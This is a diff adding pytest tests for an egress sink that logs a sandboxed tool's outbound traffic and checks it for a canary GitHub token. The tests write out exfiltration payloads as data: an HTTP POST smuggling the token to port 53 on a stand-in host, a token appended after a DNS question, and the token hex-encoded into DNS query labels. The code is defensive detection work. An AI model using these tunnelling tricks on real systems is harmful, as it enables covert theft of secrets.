@@ -1,0 +1,128 @@
+"""A hostile server's bytes as the egress sink reads them (images/sink/listener.py, run here in process on fake or
+socketpair connections, no engine): whatever it sent that the sink read must reach the log line the host searches
+for canaries (scanner.probes.egress_windows), and an exfiltration must not hide behind a DNS port or message."""
+
+from __future__ import annotations
+
+import base64
+import importlib.util
+import socket
+import struct
+import threading
+from pathlib import Path
+from types import ModuleType
+from typing import Any
+
+from sandbox.run.sink import EgressEvent
+from scanner.probes.egress_drain import as_record
+from scanner.probes.egress_windows import EgressWindows
+from scanner.report.model import CallBehavior
+
+# The sink's code of this checkout (an editable install may map sandbox.image_contexts to another one).
+SINK_DIR = Path(__file__).resolve().parents[1] / "images" / "sink"
+TOKEN = "ghp_CanaryCanaryCanary0123456789abcdefXY"
+
+
+def _listener() -> ModuleType:
+    spec = importlib.util.spec_from_file_location("sink_listener_hostile", SINK_DIR / "listener.py")
+    assert spec is not None and spec.loader is not None
+    listener = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(listener)
+    return listener
+
+
+class FakeConn:
+    """An accepted connection redirected from 198.18.1.9:`port` (SO_ORIGINAL_DST) whose client sent `chunks`."""
+
+    def __init__(self, chunks: list[bytes], port: int) -> None:
+        self.chunks, self.port, self.sent = list(chunks), port, b""
+
+    def settimeout(self, _seconds: float) -> None:
+        pass
+
+    def recv(self, size: int) -> bytes:
+        return self.chunks.pop(0)[:size] if self.chunks else b""
+
+    def getsockopt(self, *_args: Any) -> bytes:
+        return struct.pack("!HH4s8x", socket.AF_INET, self.port, socket.inet_aton("198.18.1.9"))
+
+    def sendall(self, data: bytes) -> None:
+        self.sent += data
+
+    def close(self) -> None:
+        pass
+
+
+def _handled(chunks: list[bytes], port: int) -> list[dict[str, Any]]:
+    listener, logged = _listener(), []
+    listener.emit = logged.append
+    slots = threading.BoundedSemaphore(1)
+    slots.acquire()
+    listener.handle(FakeConn(chunks, port), socket.AF_INET, 1.0, slots)
+    return logged
+
+
+def _canary_hits(logged: list[dict[str, Any]]) -> list[str]:
+    """What the host finds in those lines: each read as the scan reads it and placed into one call's record."""
+    record = CallBehavior(call=0, tool="t", label="x", sandbox=0)
+    windows = EgressWindows([], {TOKEN: "env GITHUB_TOKEN"}, [])
+    windows.open(record, 0.0)
+    windows.place([as_record(EgressEvent.from_json(line)) for line in logged if line.get("kind") in ("dns", "tcp", "udp")])
+    return [hit.encoding for hit in record.canaries]
+
+
+def _query(name: bytes, ident: int = 1) -> bytes:
+    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
+    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00\x00\x01\x00\x01"
+
+
+def test_an_http_request_to_port_53_keeps_its_bytes():
+    """The DNS-over-TCP attempt read the bytes first; when they were no DNS, the connection was read again (nothing
+    left) and logged with no bytes: a POST to any host's port 53 carried its secret unseen."""
+    request = (b"POST /c HTTP/1.1\r\nHost: drop.invalid\r\nContent-Length: 46\r\n\r\ntoken=" + TOKEN.encode())
+    logged = _handled([request], 53)
+    assert [line["kind"] for line in logged] == ["tcp"]
+    assert logged[0]["protocol"] == "http" and logged[0]["bytes"] == len(request)
+    assert _canary_hits(logged) == ["plain"]
+
+
+def test_bytes_after_a_dns_question_are_searched_udp_and_tcp():
+    """A query for an innocent name with the secret after its question (an EDNS option, an extra record, a tail)
+    went to the log as the name alone."""
+    listener, logged = _listener(), []
+    listener.emit = logged.append
+    datagram = _query(b"ok.invalid") + TOKEN.encode()
+
+    class OneDatagram:
+        def __init__(self) -> None:
+            self.sent: list[bytes] = []
+
+        def recvfrom(self, _size: int) -> tuple[bytes, tuple[str, int]]:
+            if self.sent:
+                raise StopIteration  # ends serve_dns's loop (it only goes on past an OSError)
+            return datagram, ("127.0.0.1", 40000)
+
+        def sendto(self, data: bytes, _peer: tuple[str, int]) -> None:
+            self.sent.append(data)
+
+    try:
+        listener.serve_dns(OneDatagram())
+    except StopIteration:
+        pass
+    assert [(line["kind"], line["query"]) for line in logged] == [("dns", "ok.invalid")]
+    assert _canary_hits(logged) == ["plain"]
+    over_tcp = _handled([struct.pack("!H", len(datagram)) + datagram], 53)
+    assert [(line["kind"], line["transport"]) for line in over_tcp] == [("dns", "tcp")]
+    assert _canary_hits(over_tcp) == ["plain"]
+
+
+def test_every_query_of_a_dns_over_tcp_connection_is_answered_and_logged():
+    """DNS over TCP may carry several queries; only the first was answered and logged, the next one's name (here the
+    secret hex-encoded across two labels) was never seen."""
+    hexed = TOKEN.encode().hex().encode()
+    second = _query(hexed[:60] + b"." + hexed[60:] + b".x.invalid", ident=2)
+    first = _query(b"ok.invalid")
+    conn_chunks = [struct.pack("!H", len(first)) + first + struct.pack("!H", len(second)) + second]
+    logged = _handled(conn_chunks, 53)
+    assert [line["query"] for line in logged] == ["ok.invalid", f"{hexed[:60].decode()}.{hexed[60:].decode()}.x.invalid"]
+    assert "hex" in _canary_hits(logged)
